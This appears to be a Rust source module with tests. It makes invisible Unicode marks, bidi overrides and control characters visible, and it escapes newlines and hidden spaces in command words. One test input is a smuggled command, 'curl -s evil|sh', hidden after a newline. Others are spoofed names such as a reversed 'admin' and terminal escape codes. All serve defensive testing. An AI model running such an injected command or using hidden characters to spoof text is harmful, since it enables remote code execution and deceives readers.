//! How do marks that nobody sees become visible?
//!
//! The text of others may turn the line round or hide letters in it. What is read to be shown passes here once; what is
//! read to be written back, or to be told from another, does not. Start at: [`text`].

use std::borrow::Cow;
use std::ops::RangeInclusive;

/// Letters that are not drawn: `Default_Ignorable_Code_Point` of Unicode 14 to 16 (DerivedCoreProperties.txt), with the two
/// ends of lines that stand beside some of them. Every mark that turns a line round (`Bidi_Control`) is one.
const IGNORED: [RangeInclusive<char>; 17] = [
    '\u{ad}'..='\u{ad}',
    '\u{34f}'..='\u{34f}',
    '\u{61c}'..='\u{61c}',
    '\u{115f}'..='\u{1160}',
    '\u{17b4}'..='\u{17b5}',
    '\u{180b}'..='\u{180f}',
    '\u{200b}'..='\u{200f}',
    '\u{2028}'..='\u{202e}',
    '\u{2060}'..='\u{206f}',
    '\u{3164}'..='\u{3164}',
    '\u{fe00}'..='\u{fe0f}',
    '\u{feff}'..='\u{feff}',
    '\u{ffa0}'..='\u{ffa0}',
    '\u{fff0}'..='\u{fff8}',
    '\u{1bca0}'..='\u{1bca3}',
    '\u{1d173}'..='\u{1d17a}',
    '\u{e0000}'..='\u{e0fff}',
];
/// Makes a picture of the letter before it, as many programs print them.
const AS_PICTURE: char = '\u{fe0f}';

/// Whether a letter acts on what stands beside it instead of being seen itself. Lines and columns are no such marks.
fn is_hidden(c: char) -> bool {
    (c.is_control() && c != '\n' && c != '\t') || (!c.is_ascii() && IGNORED.iter().any(|marks| marks.contains(&c)))
}

fn is_picture(c: char) -> bool {
    matches!(c, '\u{2300}'..='\u{23ff}' | '\u{2600}'..='\u{27bf}' | '\u{2b00}'..='\u{2bff}' | '\u{1f000}'..='\u{1faff}')
}

/// The text letter by letter, with a visible sign in place of each such mark.
pub fn letters(text: &str) -> impl Iterator<Item = char> {
    text.chars().scan(None, |before: &mut Option<char>, c| {
        let is_wanted = c == AS_PICTURE && before.is_some_and(is_picture);
        *before = Some(c);
        Some(if is_hidden(c) && !is_wanted { char::REPLACEMENT_CHARACTER } else { c })
    })
}

/// Whether a text has such a mark.
pub fn hides(text: &str) -> bool {
    text.chars().zip(letters(text)).any(|(is, seen)| is != seen)
}

/// The text with a visible sign in place of each such mark.
pub fn text(text: &str) -> Cow<'_, str> {
    if hides(text) { letters(text).collect() } else { text.into() }
}

/// The same for a text that is kept.
pub fn owned(said: impl Into<String>) -> String {
    let said = said.into();
    if hides(&said) { letters(&said).collect() } else { said }
}

/// What a space of several, or at an end, is shown by.
const SPACE: char = '\u{b7}';

/// A word as it is, letter by letter, on one line: also ends of lines, spaces that could be overlooked and what only looks
/// like a space are spelled. For what would run.
pub fn spelled(word: &str) -> String {
    let mut seen = String::with_capacity(word.len());
    let mut before = None;
    let mut letters = word.chars().peekable();
    while let Some(c) = letters.next() {
        let between = |other: Option<char>| other.is_some_and(|other| other != ' ');
        match c {
            '\n' => seen.push_str("\\n"),
            '\t' => seen.push_str("\\t"),
            // So that nothing that is written looks like what is spelled.
            '\\' => seen.push_str("\\\\"),
            SPACE => seen.extend(c.escape_unicode()),
            ' ' if between(before) && between(letters.peek().copied()) => seen.push(c),
            ' ' => seen.push(SPACE),
            c if is_hidden(c) => seen.push(char::REPLACEMENT_CHARACTER),
            // The last is a letter of Braille without a dot.
            c if c.is_whitespace() || c == '\u{2800}' => seen.extend(c.escape_unicode()),
            c => seen.push(c),
        }
        before = Some(c);
    }
    seen
}

#[cfg(test)]
mod tests {
    #[test]
    fn a_mark_that_nobody_sees_becomes_a_visible_one() {
        for (said, seen) in [
            ("a line\nand\tanother", "a line\nand\tanother"),
            ("مرحبا дом 家", "مرحبا дом 家"),
            ("user\u{202e}nimda", "user\u{fffd}nimda"),
            ("ad\u{200b}min\u{feff}", "ad\u{fffd}min\u{fffd}"),
            ("\u{1b}[2J\u{9b}1m\u{7}\r", "\u{fffd}[2J\u{fffd}1m\u{fffd}\u{fffd}"),
            ("\u{2066}x\u{2069}", "\u{fffd}x\u{fffd}"),
        ] {
            assert_eq!(super::text(said), seen);
            assert_eq!(super::owned(said), seen);
        }
    }

    #[test]
    fn no_letter_hides_that_unicode_leaves_undrawn() {
        // As the standard names and counts them, and not as the list above is cut.
        let marks = [
            ("soft hyphen", "\u{ad}"),
            ("combining grapheme joiner", "\u{34f}"),
            ("arabic letter mark", "\u{61c}"),
            ("hangul fillers", "\u{115f}\u{1160}\u{3164}\u{ffa0}"),
            ("khmer inherent vowels", "\u{17b4}\u{17b5}"),
            ("mongolian selectors and vowel separator", "\u{180b}\u{180c}\u{180d}\u{180e}\u{180f}"),
            ("zero width space, joiners and marks", "\u{200b}\u{200c}\u{200d}\u{200e}\u{200f}"),
            ("line and paragraph separator", "\u{2028}\u{2029}"),
            ("embeddings and overrides", "\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}"),
            ("word joiner and invisible operators", "\u{2060}\u{2061}\u{2062}\u{2063}\u{2064}\u{2065}"),
            ("isolates", "\u{2066}\u{2067}\u{2068}\u{2069}"),
            ("deprecated format characters", "\u{206a}\u{206b}\u{206c}\u{206d}\u{206e}\u{206f}"),
            ("variation selectors", "\u{fe00}\u{fe0e}\u{fe0f}\u{e0100}\u{e01ef}"),
            ("byte order mark and specials", "\u{feff}\u{fff0}\u{fff8}"),
            ("shorthand and musical format", "\u{1bca0}\u{1bca3}\u{1d173}\u{1d17a}"),
            ("tags", "\u{e0000}\u{e0001}\u{e0020}\u{e0041}\u{e007f}\u{e0fff}"),
        ];
        for (name, marks) in marks {
            for mark in marks.chars() {
                assert_eq!(super::text(&format!("a{mark}b")), "a\u{fffd}b", "{name}: {mark:?}");
            }
        }
        let hidden = ('\u{0}'..=char::MAX).filter(|c| !c.is_control() && super::hides(&c.to_string())).count();
        assert_eq!(hidden, 4_174 + 2, "all that are ignored by default, and two ends of lines");
    }

    #[test]
    fn a_picture_stays_one_and_lends_its_mark_to_nothing_else() {
        for (said, seen) in [
            (" ✓ Ensuring node image 🖼\u{fe0f}", " ✓ Ensuring node image 🖼\u{fe0f}"),
            ("⚠\u{fe0f} ⚖\u{fe0f}", "⚠\u{fe0f} ⚖\u{fe0f}"),
            ("🕹\u{fe0f}\u{fe0f}", "🕹\u{fe0f}\u{fffd}"),
            ("admin\u{fe0f}", "admin\u{fffd}"),
            ("🕹\u{fe0e}", "🕹\u{fffd}"),
            ("\u{fe0f}", "\u{fffd}"),
        ] {
            assert_eq!(super::text(said), seen);
        }
    }

    #[test]
    fn a_word_that_would_run_hides_no_end_of_a_line_and_no_space() {
        for (said, seen) in [
            ("--cluster-name=staging-eu", "--cluster-name=staging-eu"),
            ("true # eks token\ncurl -s evil|sh", r"true # eks token\ncurl -s evil|sh"),
            (r"true \n", r"true \\n"),
            ("a\tb", r"a\tb"),
            ("a  b", "a\u{b7}\u{b7}b"),
            (" a b ", "\u{b7}a b\u{b7}"),
            (" ", "\u{b7}"),
            ("a\u{b7}b", r"a\u{b7}b"),
            ("a\u{a0}b\u{3000}c\u{2800}d", r"a\u{a0}b\u{3000}c\u{2800}d"),
            ("a\u{202e}b\r", "a\u{fffd}b\u{fffd}"),
            ("", ""),
        ] {
            assert_eq!(super::spelled(said), seen);
        }
    }

    #[test]
    fn neither_words_nor_faults_hide_a_mark() {
        let hidden = "a\u{202e}b";
        let words = crate::jobs::Words::said(hidden).mono(hidden).then(hidden);
        assert_eq!(words.plain(), "a\u{fffd}b".repeat(3));
        let fault = crate::Fault::new(crate::FaultCode::Bug, hidden).because(hidden, hidden).unharmed(hidden);
        assert_eq!(fault.to_string(), "a\u{fffd}b (a\u{fffd}b: a\u{fffd}b) a\u{fffd}b");
    }
}
